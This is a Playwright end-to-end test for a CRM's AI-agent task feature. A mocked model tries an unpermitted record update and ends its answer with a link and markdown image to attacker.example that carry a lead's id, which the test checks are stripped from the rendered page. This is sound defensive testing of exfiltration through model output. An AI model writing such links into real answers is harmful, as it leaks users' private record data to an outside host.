import { expect, type Page } from "@playwright/test";
import { freePort } from "../src/database/free-port.ts";
import { openModelServer } from "../src/testing/model-server.ts";
import { clean } from "./clean.ts";
import { launch, prefer, signInAsAtFirst, someBrowser, type Tandem, test } from "./tandem.ts";

// A company of its own: the model that is set here is everybody's.
let tandem: Tandem;
let endpoint: Awaited<ReturnType<typeof openModelServer>>;
// Its last words wait until the first ones were seen.
const seen = Promise.withResolvers<void>();
test.beforeAll(async () => {
  // It looks for what it was asked about, opens the first record that it was given, tries to change it, and answers.
  endpoint = await openModelServer(({ messages }) => {
    const told = messages.filter(({ role }) => role === "tool").map(({ content }) => content);
    const [, id] = /"id":"([0-9a-f-]{36})"/.exec(told[0] ?? "") ?? [];
    if (told.length === 0)
      return { text: "", calls: [["leads_list", { columns: "id,name,stage", limit: 3, order: "-value" }]] };
    if (told.length === 1)
      return {
        text: "",
        calls: [
          ["leads_get", { id }],
          ["leads_update", { id, name: "Taken" }],
        ],
      };
    return {
      text: `The largest is [this one](/leads?id=${id}), **of those that you see**. [Elsewhere](https://attacker.example/?${id}) ![it](https://attacker.example/${id}.png) https://attacker.example/`,
      holds: seen.promise,
    };
  });
  tandem = await launch(await freePort(), ["--demo"], undefined, { TANDEM_PRIVATE_HOSTS: "127.0.0.1" });
});
test.afterAll(async () => {
  await tandem.stop();
  await endpoint.close();
});

test("somebody asks the agents a question, from the tasks and from a lead: the answer leads to the record, each step is shown, to those who see the task", async ({
  browser,
}) => {
  test.setTimeout(180_000);
  const contexts = [
    await someBrowser(browser, tandem),
    await someBrowser(browser, tandem, { width: 390 }),
    await someBrowser(browser, tandem),
  ] as const;
  const claire = await signInAsAtFirst(contexts[0], "sales@demo.test");
  const boss = await signInAsAtFirst(contexts[1], "admin@demo.test");
  const colleague = await signInAsAtFirst(contexts[2], "sales2@demo.test");
  const set = { base_url: endpoint.url, prices: { "gpt-4o-mini": { in: 150_000, out: 600_000 } } };
  await boss.evaluate(setModel, set);

  await claire.goto("/dashboard/ai-army?tab=tasks");
  await claire.getByRole("button", { name: "New task" }).first().press("Enter");
  const form = claire.getByRole("dialog", { name: "New task" });
  await form.getByLabel("Needs").selectOption({ label: "Answer questions" });
  await form.getByLabel("Question").fill("Which of my leads is the largest?\nOf those that are open.");
  await form.getByLabel("Priority").selectOption("P0");
  await clean(claire);
  await form.getByLabel("Question").press("Control+Enter");
  const task = claire.getByRole("complementary", { name: "Task for an agent" });
  await expect(task.getByText("Being written")).toBeVisible({ timeout: 30_000 });
  await expect(task.getByText("The largest is")).toBeVisible();
  await expect(task.getByText("Elsewhere")).toBeVisible();
  await expect(task.locator("[href*='attacker'], [src*='attacker']")).toHaveCount(0);
  await clean(claire);
  seen.resolve();
  await expect(task.getByText("Being written")).toBeHidden();
  // What a model writes leads nowhere else.
  await expect(task.getByText("Elsewhere")).toBeVisible();
  await expect(task.locator("[href*='attacker'], [src*='attacker']")).toHaveCount(0);
  const steps = task.getByRole("region", { name: "Steps" }).getByRole("listitem");
  await expect(steps).toHaveText([
    /Asked gpt-4o-mini.*20 tokens read · 5 written/,
    /Looked through: Leads.*Found: 3.*Allowed as Salesperson: one’s own, the team’s, nobody’s/,
    /Asked gpt-4o-mini/,
    /Read: Lead.*Found: 1/,
    /leads_update.*Not done.*There is no such tool\./,
    /Asked gpt-4o-mini/,
  ]);
  await expect(task.getByText("Of those that are open.").last()).toBeVisible();
  await clean(claire);
  await task.getByRole("link", { name: "this one" }).click();
  await expect(claire).toHaveURL(/\/leads\?id=/);

  // (One that is in nobody's care, and that she may only claim, can be asked about as well.)
  const lead = claire.getByRole("complementary", { name: "Lead" });
  await lead.getByRole("button", { name: "More acts" }).first().press("Enter");
  await claire.getByRole("menuitem", { name: "Ask an agent…" }).press("Enter");
  const asking = claire.getByRole("dialog", { name: "Ask an agent" });
  await asking.getByLabel("What you want").fill("What did we promise?");
  await clean(claire);
  await asking.getByRole("button", { name: "Ask" }).click();
  await claire.getByRole("button", { name: "Open the task" }).click();
  await expect(task.getByRole("heading", { name: "What did we promise?" })).toBeVisible();
  await expect(task.getByRole("link", { name: "Open what it is about" })).toBeVisible();
  await expect(steps).toHaveCount(6, { timeout: 60_000 });
  expect(endpoint.asked.at(-1)?.messages[1]?.content).toContain("The question is about the record of leads");

  await doneByAgent(claire);

  // Whoever runs the agents sees the steps too, in their own language and on a phone; a colleague none of them.
  await prefer(boss, { language: "fr", theme: "dark" });
  await boss.goto("/dashboard/ai-army?tab=tasks");
  await boss.getByText("Which of my leads is the largest?").click();
  const tache = boss.getByRole("complementary", { name: "Tâche pour un agent" });
  await expect(tache.getByText("Parcouru\u202f: Prospects")).toBeVisible();
  await clean(boss);
  await colleague.goto("/dashboard/ai-army?tab=tasks");
  await expect(colleague.getByText("None that your role shows you. There may be others.")).toBeVisible();
  await prefer(boss, { language: "en", theme: "light" });
  await Promise.all(contexts.map((context) => context.close()));
});

/** A task is given to the agent that one chooses, by one key: how it stands is in its panel, and what came of it in its timeline. */
async function doneByAgent(page: Page) {
  await page.goto("/tasks?new=1");
  const form = page.getByRole("dialog");
  await form.getByLabel("Name", { exact: true }).fill("Which one is next?");
  await form.getByRole("button", { name: "Create task" }).click();
  const panel = page.getByRole("complementary", { name: "Task", exact: true });
  const agents = panel.getByRole("region", { name: /^Agents/ });
  await expect(agents.getByText("No agent was asked for it.")).toBeVisible();
  await panel.focus();
  await page.keyboard.press("i");
  const asking = page.getByRole("dialog", { name: "Ask an agent" });
  await expect(asking.getByLabel("What you want")).toHaveValue("Which one is next?");
  await asking.getByLabel("Agent", { exact: true }).selectOption({ label: "Documentation Agent" });
  await asking.getByLabel("What is to be done").selectOption({ label: "Answer questions" });
  await clean(page);
  await asking.getByLabel("What you want").press("Control+Enter");
  await expect(agents.locator("[data-state=done]")).toBeVisible({ timeout: 60_000 });
  await expect(panel.getByRole("region", { name: "Timeline" }).getByText("The largest is")).toBeVisible();
  await clean(page);
  expect(endpoint.asked.at(-1)?.messages[1]?.content).toContain("The question is about the record of tasks");
  await expect(page.getByRole("button", { name: /unread/ })).toBeVisible();
}

/** Sets the endpoint as the settings' page does. */
async function setModel(body: object): Promise<void> {
  const headers = { "content-type": "application/json", "idempotency-key": crypto.randomUUID() };
  const answer = await fetch("/api/agents/model", { method: "PUT", headers, body: JSON.stringify(body) });
  if (!answer.ok) throw new Error(await answer.text());
}
